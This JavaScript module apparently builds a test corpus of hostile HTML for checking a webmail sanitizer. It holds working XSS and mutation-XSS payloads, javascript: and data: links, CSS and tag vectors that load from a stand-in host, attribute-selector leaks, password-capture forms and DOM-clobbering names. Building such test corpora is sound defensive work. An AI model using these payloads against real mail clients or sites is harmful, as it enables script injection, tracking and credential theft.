// Letters that try to run a script or to reach a stranger's server: shapes of our own, made from
// the classes of attacks that hit webmails, by combination. Each is a pair of class and HTML.
//
// A script that runs tells the page around it; everything that loads, loads from HOST.

const HOST = "canary.test";
const RUN = "parent.postMessage(`ran`,`*`)";
const URL = `http://${HOST}/`;
const shapes = [];
const add = (kind, ...htmls) => { for (const html of htmls) shapes.push({ kind, html }); };
const entity = (text) => [...text].map((c) => `&#${c.charCodeAt(0)};`).join("");
const hex = (text) => [...text].map((c) => `&#x${c.charCodeAt(0).toString(16)}`).join(";") + ";";
const base64 = (text) => Buffer.from(text).toString("base64");

// Handlers: on elements that fire them by themselves, in each way of writing an attribute.
const FIRE = [
  ["img src=x", "onerror"], ["img src=x:", "onload onerror"], ["body", "onload"], ["body", "onpageshow"],
  ["svg", "onload"], ["video src=x", "onerror"], ["audio src=x", "onerror"],
  ["details open", "ontoggle"], ["input autofocus", "onfocus"], ["textarea autofocus", "onfocus"],
  ["select autofocus", "onfocus"], ["button autofocus", "onfocus"], ["iframe", "onload"],
  ["object data=x", "onerror"], ["link rel=stylesheet href=x", "onerror"], ["style", "onload"],
  ["a tabindex=1 autofocus", "onfocus"], ["div style='animation:x 1s' ", "onanimationstart"],
  ["script src=x", "onerror"], ["image src=x", "onerror"],
];
for (const [tag, names] of FIRE) {
  const set = (form) => names.split(" ").map(form).join(" ");
  add("handler",
    `<${tag} ${set((n) => `${n}="${RUN}"`)}>`,
    `<${tag} ${set((n) => `${n.toUpperCase()}='${entity(RUN)}'`)}>`,
    `<${tag.replace(/ /g, "/")}/${set((n) => `${n}=${RUN}`)}//>`,
    `<${tag}\n${set((n) => `${n}\t=\n"${hex(RUN)}"`)} x=`);
}

// Script elements, whole, broken, nested.
for (const [open, close] of [
  ["<script>", "</script>"], ["<SCRIPT >", "</SCRIPT >"], ["<script/x>", "</script\n>"],
  ["<svg><script>", "</script></svg>"], ["<math><script>", "</script></math>"],
  ["<scr<script>ipt>", "</scr</script>ipt>"], ["<table><script>", "</script></table>"],
  ["<p title='<!--'><script>", "</script>-->"], ["<script type=module>", "</script>"],
  ["<template shadowrootmode=open><script>", "</script></template>"],
]) add("script", `${open}${RUN}${close}`, `a${open}//<!--\n${RUN}\n//-->${close}b`, `${open.replace(">", ` src=${URL}a.js>`)}${close}`);

// Documents within the document.
for (const address of [`javascript:${RUN}`, `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,${base64(`<script>${RUN}</script>`)}`, `${URL}frame`]) {
  add("document", `<iframe src="${address}"></iframe>`, `<embed src="${address}">`, `<object data="${address}"></object>`,
    `<frameset><frame src="${address}"></frameset>`, `<meta http-equiv=refresh content="0;url=${address}">`,
    `<base href="${address}"><img src=b><link rel=stylesheet href=c>`, `<portal src="${address}"></portal>`);
}
add("document", `<iframe srcdoc="<script>${RUN}</script>"></iframe>`, `<iframe srcdoc="&lt;img src=x onerror=${RUN}&gt;"></iframe>`,
  `<iframe srcdoc='<img src=${URL}a>'></iframe>`);

// SVG: scripts, references, animation that writes addresses.
for (const inner of [
  `<use href="data:image/svg+xml;base64,${base64(`<svg id=x xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${RUN}'/></svg>`)}#x"/>`,
  `<use xlink:href="data: image/svg+xml ,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"/>`,
  `<use href="${URL}a.svg#x"/>`, `<image href="${URL}a"/>`, `<image xlink:href="${URL}a"/>`, `<feImage href="${URL}a"/>`,
  `<filter id=f><feImage xlink:href="${URL}a"/></filter><rect width=9 height=9 filter="url(#f)"/>`,
  `<image><set attributeName=href to="${URL}a"/></image>`, `<image><animate attributeName=href values="${URL}a;${URL}b" dur=1s /></image>`,
  `<image href=x><animate attributeName="href" from=x to="${URL}a" dur=1s fill=freeze /></image>`,
  `<image><animate attributeName="xlink:href" by="${URL}a" begin=0 dur=1s /></image>`,
  `<animate attributeName=x onbegin="${RUN}" dur=1s />`, `<set attributeName=x onbegin="${RUN}" />`,
  `<rect><animate attributeName="style " values="fill:url(${URL}a)" dur=1s /></rect>`,
  `<rect width=9 height=9><set attributeName=style to="fill:url(${URL}a#p)"/></rect>`,
  `<foreignObject><body onload="${RUN}"></body></foreignObject>`, `<foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject>`,
  `<style>@import url(${URL}a)</style>`, `<style>*{background:url(${URL}a)}</style>`, `<script href="data:,${RUN}"/>`,
  `<a href="javascript:${RUN}"><text y=9>x</text></a>`, `<a><animate attributeName=href values="javascript:${RUN}" /><text y=9>x</text></a>`,
  `<discard onbegin="${RUN}"/>`, `<title><img src=x onerror="${RUN}"></title>`, `<desc><img src=${URL}a></desc>`,
]) add("svg", `<svg>${inner}</svg>`, `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><g>${inner}`);
for (const property of ["fill", "stroke", "filter", "mask", "clip-path", "cursor", "marker-start"])
  add("svg", `<svg><path d="M0 0h9v9z" ${property}="url(${URL}a#p)"/></svg>`, `<svg><path d="M0 0h9v9z" style="${property}:u\\72l(${URL}a#p)"/></svg>`);

// Mutation: what one parser takes for text, another takes for elements.
const BAD = [`<img src=x onerror=${RUN}>`, `<img src=${URL}a>`];
for (const bad of BAD) {
  for (const holder of ["style", "title", "textarea", "noscript", "noembed", "noframes", "xmp", "iframe", "plaintext", "template"]) {
    add("mutation", `<${holder}><p title="</${holder}>${bad}">`, `<svg><${holder}><a id="</${holder}>${bad}">`,
      `<math><mtext><${holder}><!--</${holder}>${bad}-->`);
  }
  add("mutation",
    `<form><math><mtext></form><form><mglyph><style></math>${bad}`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${bad.replace(/</g, "&lt;").replace(/>/g, "&gt;")}">`,
    `<svg></p><style><a title="</style>${bad}">`, `<math><annotation-xml encoding="text/html"><style></math>${bad}`,
    `<table><td><svg><desc><table></td>${bad}`, `<select><template><style></select>${bad}</style>`,
    `<!--><p title="-->${bad}">`, `<!--!>${bad}-->`, `<!-- --!>${bad}-->`, `<![CDATA[${bad}]]>`, `<svg><![CDATA[</svg>${bad}]]>`,
    `<?x >${bad}?>`, `</x ${bad}>`, `<a href="x<!--">${bad}<b title="-->">`, `<p\0${bad}`, `<x\f/${bad}`,
    `${"<b>".repeat(600)}${bad}`, `<svg><b>${bad}`, `<math><mi//xlink:href="data:x,${bad}">`,
    `<div><a><svg><foreignobject><p></a>${bad}`, `<nobr><table><nobr>${bad}`, `<font color="x${bad.replace(/=/g, "&#61;")}">`);
}

// CSS that loads: each property that takes a picture, each way of writing url().
const LOADS = [`url(${URL}a)`, `url('${URL}a')`, `URL( "${URL}a" )`, `u\\72l(${URL}a)`, `\\75\\72\\6c(${URL}a)`, `url(\\68ttp://${HOST}/a)`,
  `image-set('${URL}a' 1x)`, `-webkit-image-set(url(${URL}a) 1x)`, `cross-fade(url(${URL}a),url(${URL}b),50%)`, `var(--x,url(${URL}a))`,
  `url(${URL}a`, `image(url(${URL}a))`, `url(//${HOST}/a)`, `url(/*x*/${URL}a)`];
for (const load of LOADS) {
  const quoted = load.replace(/"/g, "&quot;");
  add("style", `<p style="background:${quoted}">x</p>`, `<p style="--x:url(${URL}a);background-image:${quoted}">x</p>`,
    `<ul><li style="list-style-image:${quoted};display:list-item">x</ul>`, `<p style="color:red;\ncontent:${quoted}">x</p>`);
}
for (const property of ["border-image", "cursor", "mask", "mask-image", "filter", "shape-outside", "clip-path", "backdrop-filter", "offset-path"])
  add("style", `<p style="${property}:url(${URL}a#x) 1">x</p>`, `<p style="${property}:url(${URL}a#x)!important;width:9px;height:9px">x</p>`);

// Style sheets: import, fonts, and selectors that spell out what is on the page.
for (const sheet of [
  `@import "${URL}a";`, `@import url(${URL}a) layer(x);`, `@\\69mport '${URL}a';`, `@charset "x";@import url(//${HOST}/a);`,
  `@font-face{font-family:f;src:url(${URL}a);unicode-range:U+61}p{font-family:f}`,
  `p[title^="s"]{background:url(${URL}s)}`, `input[value^="1"]~p{background:url(${URL}1)}`,
  `@container (min-width:1px){p{background:url(${URL}a)}}`, `@media all{p{background:url(${URL}a)}}`, `@supports (color:red){p{background:url(${URL}a)}}`,
  `p{--u:url(${URL}a);background:var(--u)}`, `p::before{content:url(${URL}a)}`, `p{background:image-set("${URL}a" 1x)}`,
  `@page{background:url(${URL}a)}`, `@namespace "${URL}a";p{background:url(${URL}a)}`, `p:has(b){background:url(${URL}a)}`, `:root{cursor:url(${URL}a),auto}`,
]) add("sheet", `<style>${sheet}</style><input type=hidden value=123><p title=secret>a<b>b</b></p>`, `<p title=secret>a<b>b</b></p><style media=all>/**/${sheet}`);

// Everything else that loads by itself.
for (const tag of ["img src", "img srcset", "img lowsrc", "img dynsrc", "image src", "video poster", "video src", "audio src", "source src", "track src",
  "input type=image src", "embed src", "object data", "body background", "table background", "td background", "link rel=stylesheet href", "link rel=icon href",
  "link rel=preload as=image href", "link rel=prefetch href", "link rel=dns-prefetch href", "link rel=preconnect href", "link rel=manifest href", "link rel=modulepreload href",
  "script src", "iframe src", "applet archive", "html manifest", "a ping", "model src", "fencedframe src"])
  add("remote", `<${tag}="${URL}a">`, `<${tag}='//${HOST}/a'>`, `<${tag}="&#104;ttp://${HOST}/&#97;">`);
add("remote", `<picture><source srcset="${URL}a 1x"><img></picture>`, `<video><source src="${URL}a"></video>`, `<video autoplay><track default src="${URL}a"></video>`,
  `<img src="x" srcset="${URL}a 1x, ${URL}b 2x">`, `<img src=" ${URL}a">`, `<img src="\thttp:\n//${HOST}/a">`, `<img src="http:/${HOST}/a">`, `<img src="cid:nobody" style="content:url(${URL}a)">`);

// Links that run something, forms that ask for a password, names that clobber.
for (const scheme of ["javascript:", " javascript:", "java\tscript:", "java\nscript:", "JaVaScRiPt:", "&#106;avascript:", "javascript&colon;", "\u0001javascript:", "vbscript:", "data:text/html,<script>", "javascript:/*%0a*/", "view-source:javascript:"])
  add("link", `<a href="${scheme}${RUN}">x</a>`, `<a href='${scheme}${RUN}' target=_self>x</a>`, `<area shape=default href="${scheme}${RUN}">`, `<form action="${scheme}${RUN}"><button>x</button></form>`);
add("form", `<form action=${URL}><input name=p type=password autofocus><button>x</button></form>`, `<form id=f action=${URL}></form><input form=f formaction=${URL} type=submit>`,
  `<button formaction="javascript:${RUN}">x</button>`, `<isindex action=${URL} type=image src=${URL}a>`, `<input onfocus=${RUN} autofocus><keygen autofocus onfocus=${RUN}>`,
  `<form><input name=attributes><input name=parentNode></form>`, `<a id=location name=cookie class=facteur href=x>x</a>`, `<img name=body><img id=head>`,
  `<div style="position:fixed;inset:0;z-index:9999;background:#fff">x</div>`, `<div style="position:absolute!important;top:-99px">x</div>`, `<dialog open>x</dialog>`, `<marquee onstart=${RUN}>x</marquee>`);

export { HOST, shapes };
